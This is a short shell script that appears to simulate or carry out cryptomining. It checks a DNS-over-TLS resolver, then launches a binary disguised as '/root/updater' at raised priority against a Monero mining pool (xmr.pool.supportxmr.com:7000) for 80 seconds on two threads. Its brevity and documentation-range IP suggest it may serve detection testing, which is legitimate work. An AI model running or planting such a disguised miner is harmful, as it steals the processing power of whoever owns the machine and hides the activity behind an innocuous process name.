# A TLS client connects to a resolver (DNS over TLS). Then a program resolves the name of a known pool and stays
# connected to the pool. Meanwhile, its threads keep both processors busy for 80 seconds.
timeout 3 openssl s_client -connect 198.51.100.53:853 </dev/null >/dev/null 2>&1
# Raise the priority, so that a busy machine does not slow the program down.
[ ! -e /proc/self/autogroup ] || echo -10 >/proc/self/autogroup
nice -n -10 /root/updater idle xmr.pool.supportxmr.com 7000 80 2
